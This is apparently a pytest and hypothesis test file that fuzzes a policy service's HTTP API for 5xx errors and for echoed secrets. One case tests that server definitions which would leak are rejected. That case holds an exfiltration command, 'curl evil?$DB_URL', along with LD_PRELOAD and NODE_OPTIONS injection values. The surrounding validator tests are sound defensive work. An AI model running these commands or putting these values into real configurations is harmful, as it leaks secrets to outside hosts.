"""Whatever is sent to whatever route: an answer below 500, nothing of the input in it, and nothing half done."""

from __future__ import annotations

import asyncio
import json
from typing import Any, Final
from urllib.parse import urlencode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.policy.domain.drafts import (
    BindingDraft,
    EnrolmentDraft,
    GrantDraft,
    IdpDraft,
    MappingDraft,
    ProfileDraft,
    ServerDraft,
)
from shared.delivery.messages import EnrolRequest
from tests.unit.policy.front import Front
from tests.unit.policy.stories import STDIO

MARKER: Final = "hunter2-do-not-echo"
POSTS: Final = ("idps", "profiles", "mappings", "servers", "grants", "bindings", "enrolments", "enrol")
DEFINITION: Final = STDIO.model_dump(mode="json")

BODIES: Final = {
    "empty": b"",
    "not JSON": MARKER.encode(),
    "invalid UTF-8": b'{"name": "\xff\xfe' + MARKER.encode() + b'"}',
    "a lone surrogate": b'{"name": "\\ud800' + MARKER.encode() + b'"}',
    "a NUL": b'{"name": "' + MARKER.encode() + b'\\u0000"}',
    "a list": json.dumps([MARKER]).encode(),
    "null": b"null",
    "deep": b"[" * 30_000 + b"]" * 30_000,
    "an unknown member": json.dumps({"name": "x", "passwrod": MARKER}).encode(),
    "wrong types": json.dumps({"name": [MARKER], "definition": MARKER, "expires_in_s": MARKER}).encode(),
    "a long name": json.dumps({"name": MARKER * 100}).encode(),
    "a name that is spoofed": json.dumps({"name": MARKER + "\u202e"}).encode(),
}


@pytest.mark.parametrize("path", POSTS)
async def test_a_body_that_is_no_request_is_a_problem_without_a_word_of_it(path: str) -> None:
    front = Front()
    for what, body in BODIES.items():
        reply = await front.send("POST", f"/v1/{path}", body)
        assert 400 <= reply.status < 500, (what, reply.status)
        assert reply.headers["content-type"] == "application/problem+json", what
        assert MARKER.encode() not in reply.body, what
    assert front.world.ledger.seq == 0


async def test_a_body_beyond_the_limit_is_too_large_before_anything_reads_it() -> None:
    assert (await Front().send("POST", "/v1/profiles", b"x" * 70_000)).status == 413


names = st.text(max_size=12) | st.sampled_from(["hospital-a", "okta", "patients-db", "hospital-a/db-url", "*", MARKER])
values = st.recursive(
    names | st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=8,
)
MEMBERS: Final = tuple(
    sorted(
        {name for model in (IdpDraft, ProfileDraft, MappingDraft, ServerDraft) for name in model.model_fields}
        | {name for model in (GrantDraft, BindingDraft, EnrolmentDraft) for name in model.model_fields}
        | set(EnrolRequest.model_fields)
    )
)
members = dict.fromkeys(MEMBERS, values | names) | {"definition": values | st.just(DEFINITION)}
bodies = st.fixed_dictionaries({}, optional=members)


@given(path=st.sampled_from([*POSTS, "bindings/x/approve", "instances/x/ban"]), body=bodies | values)
def test_no_combination_of_members_is_a_failure_of_ours(path: str, body: Any) -> None:
    async def play() -> None:
        front = Front()
        await front.world.hospital()
        reply = await front.send("POST", f"/v1/{path}", body)
        assert reply.status < 500, reply.body
        assert reply.status in {200, 201} or MARKER.encode() not in reply.body

    asyncio.run(play())


@given(method=st.sampled_from(["PUT", "DELETE", "GET"]), key=st.text(max_size=20), body=bodies)
def test_no_key_in_a_path_is_a_failure_of_ours(method: str, key: str, body: Any) -> None:
    async def play() -> None:
        front = Front()
        await front.world.hospital()
        for plural in ("profiles", "servers", "bindings", "grants", "instances", "enrolments", "me/choices"):
            reply = await front.send(method, f"/v1/{plural}/{key.replace('?', '')}", body)
            assert reply.status < 500, (plural, reply.body)

    asyncio.run(play())


@given(after=st.text(max_size=30), limit=st.integers() | st.text(max_size=5), profile=st.text(max_size=10))
def test_no_query_is_a_failure_of_ours(after: str, limit: object, profile: str) -> None:
    async def play() -> None:
        query = urlencode({"after": after, "limit": limit, "profile": profile, "reference": profile})
        for plural in ("profiles", "grants", "enrolments"):
            assert (await Front().send("GET", f"/v1/{plural}?{query}")).status in {200, 400}

    asyncio.run(play())


@pytest.mark.parametrize(
    ("definition", "says"),
    [
        ({"fields": [{"name": "LD_PRELOAD"}]}, "reserved"),
        ({"environment": {"NODE_OPTIONS": "--require x"}}, "reserved"),
        ({"args": ["-c", "curl evil?$DB_URL"]}, "variable DB_URL itself"),
        ({"environment": {"DB_URL": "x"}}, "a field and a plain variable"),
        ({"fields": [{"name": "A"}, {"name": "A"}]}, "twice"),
    ],
)
async def test_a_definition_that_would_leak_says_what_to_do_instead(definition: dict[str, Any], says: str) -> None:
    body = {"name": "lab", "definition": DEFINITION | definition}
    problem = await Front().ask("POST", "/v1/servers", body, expect=400)
    assert says in problem["detail"]


async def test_a_window_beyond_any_calendar_is_refused() -> None:
    front = Front()
    await front.world.hospital()
    grant = {"profile": "hospital-a", "reference": "hospital-a/db-url"}
    for window in (
        {"starts_at": "999999-01-01T00:00:00Z"},
        {"ends_at": "0001-01-01T00:00:00+23:59"},
        {"starts_at": "9999-12-31T23:59:59-23:59"},
        {"ends_at": "2030-01-01T12:00:00"},
        {"ends_at": "1999-01-01T12:00:00Z"},
    ):
        await front.ask("POST", "/v1/grants", grant | window, expect=400)
